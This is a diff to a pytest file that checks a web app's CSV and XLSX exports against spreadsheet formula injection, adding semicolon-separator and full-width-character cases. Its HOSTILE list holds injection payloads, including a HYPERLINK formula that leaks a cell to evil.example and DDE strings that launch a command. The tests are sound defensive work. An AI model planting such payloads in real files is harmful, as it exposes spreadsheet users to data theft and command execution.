@@ -1,11 +1,17 @@
 """Formula injection: no cell of any CSV or XLSX export starts a formula, whatever
-people or editors typed (cells starting with = + - @ tab or carriage return)."""
+people or editors typed, and whatever separator the spreadsheet splits the file on
+(a comma file opened where the list separator is ``;``, as in Albanian, or the
+reverse): every piece between separators is checked, not only the cells the
+file's own dialect makes."""
 
 import csv
 import io
+import re
 
 import pytest
 from openpyxl import load_workbook
+
+from home.csvsafe import neutralise
 
 from .conftest import HOST
 
@@ -13,25 +19,48 @@ membership_services = pytest.importorskip("membership.services")
 movement_models = pytest.importorskip("movement.models")
 from tests.movement.conftest import add_pledges, make_campaign  # noqa: E402
 
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-HOSTILE = [
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+# What the probe got through with a semicolon spreadsheet, then the classics.
+PROBE = [";=1+2", "Krasniqi;@SUM(1+1)"]
+HOSTILE = PROBE + [
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
+    "Gashi,=1+2",
+    "Berisha\t+1+1",
+    "Hoxha|-1+1",
+    "Rama\n=1+1",
+    "Kelmendi; =1+1",
+    "\uff1d1+2",
+    "Shala;\uff20SUM(1)",
+    '"=1+2"',
+    'Gjoka,"=1+2',
 ]
+NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
 
 
-def csv_cells(content):
-    text = content.decode("utf-8-sig")
-    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+def pieces(text):
+    """Every piece a spreadsheet could make a cell of, under any separator, quotes
+    taken off as a spreadsheet does."""
+    for separator in ",;\t|":
+        for piece in re.split(f"[{re.escape(separator)}\r\n]", text):  # rows too
+            yield piece.strip(" ").lstrip('"')
 
 
 def assert_csv_safe(content, where):
-    for cell in csv_cells(content):
-        assert not cell.startswith(FORMULA_START), f"{cell!r} in {where}"
+    text = content.decode("utf-8-sig")
+    for piece in pieces(text):
+        if NUMBER.match(piece):  # a number is a number (negative counts, values)
+            continue
+        assert not piece.startswith(FORMULA_START), f"{piece!r} in {where}"
+
+
+def csv_cells(content, delimiter=","):
+    text = content.decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
 
 
 def assert_xlsx_safe(content, where):
@@ -45,6 +74,22 @@ def assert_xlsx_safe(content, where):
                     # as phone numbers "+383 …" do.
                     assert cell.data_type == "s", f"{cell.value!r} in {where}"
                     assert cell.value.startswith("+") and cell.column_letter, where
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_neutralise_leaves_no_piece_that_starts_a_formula(text):
+    safe = neutralise(text)
+    for piece in pieces(safe):
+        assert not piece.startswith(FORMULA_START), (text, safe)
+    assert safe.replace("'", "") == text.replace("'", "")  # only apostrophes added
+
+
+def test_neutralise_keeps_ordinary_text_as_it_is():
+    for text in ("Prishtinë", "shqip, English", "Krasniqi; Gashi", "a-b", "e-mail@x.org", ""):
+        assert neutralise(text) == text
+    assert neutralise(None) == ""
+    assert neutralise("Krasniqi;@SUM(1+1)") == "Krasniqi;'@SUM(1+1)"
+    assert neutralise(";=1+2") == ";'=1+2"
 
 
 @pytest.fixture
@@ -68,20 +113,33 @@ def hostile_people(org):
         membership_services.confirm(ids)
 
 
-def test_membership_exports_neutralise_formulas(client, org, hostile_people, superuser):
+@pytest.mark.parametrize("dialect", ["", "semicolon"])
+def test_membership_csv_is_safe_under_any_separator(
+    client, org, hostile_people, superuser, dialect
+):
     client.force_login(superuser)
-    response = client.get("/admin/people/export/csv/", HTTP_HOST=HOST)
+    response = client.get(f"/admin/people/export/csv/?dialect={dialect}", HTTP_HOST=HOST)
     assert response.status_code == 200
-    cells = csv_cells(response.content)
+    assert response.content.startswith("\ufeff".encode())  # UTF-8 for spreadsheets
+    assert_csv_safe(response.content, f"the people CSV ({dialect or 'comma'})")
+    delimiter = ";" if dialect else ","
+    cells = csv_cells(response.content, delimiter)
+    # Read with its own separator, the file has the texts, neutralised.
+    assert "Krasniqi;'@SUM(1+1)" in cells and ";'=1+2" in cells
     assert any(cell.startswith("'=HYPERLINK") for cell in cells)
-    assert_csv_safe(response.content, "the people CSV")
+    header = response.content.decode("utf-8-sig").splitlines()[0]
+    assert header.count(delimiter) > 10
 
+
+def test_membership_xlsx_has_no_formula(client, org, hostile_people, superuser):
+    client.force_login(superuser)
     response = client.get("/admin/people/export/xlsx/", HTTP_HOST=HOST)
     assert response.status_code == 200
     assert_xlsx_safe(response.content, "the people XLSX")
 
 
-def test_open_data_neutralises_formulas(client, org):
+@pytest.mark.parametrize("dialect", ["", "semicolon"])
+def test_open_data_is_safe_under_any_separator(client, org, dialect):
     page, _ = make_campaign(org)
     for demand, text in zip(page.demands.all(), HOSTILE, strict=False):
         demand.title = text
@@ -90,15 +148,21 @@ def test_open_data_neutralises_formulas(client, org):
         demand.unit = text[:20]
         demand.save()
     add_pledges(page, 2)
-    movement_models.Pledge.objects.filter(campaign=page).update(name=HOSTILE[0], party=HOSTILE[3])
+    movement_models.Pledge.objects.filter(campaign=page).update(name=PROBE[1], party=PROBE[0])
     from home.cache import invalidate_sites
 
     invalidate_sites()
     base = page.url
+    delimiter = ";" if dialect else ","
     for name in ("demands", "progress", "pledges"):
-        response = client.get(f"{base}data/{name}.csv", HTTP_HOST=HOST)
+        response = client.get(f"{base}data/{name}.csv?dialect={dialect}", HTTP_HOST=HOST)
         assert response.status_code == 200, name
         assert response["Content-Type"].startswith("text/csv")
-        assert_csv_safe(response.content, f"open data {name}.csv")
+        assert response.content.startswith("\ufeff".encode())
+        assert_csv_safe(response.content, f"open data {name}.csv ({dialect or 'comma'})")
+        cells = csv_cells(response.content, delimiter)
         if name == "demands":  # the hostile texts are there, neutralised
             assert "'=HYPERLINK" in response.content.decode("utf-8-sig")
+            assert "Krasniqi;'@SUM(1+1)" in cells and ";'=1+2" in cells
+        if name == "pledges":
+            assert "Krasniqi;'@SUM(1+1)" in cells and ";'=1+2" in cells
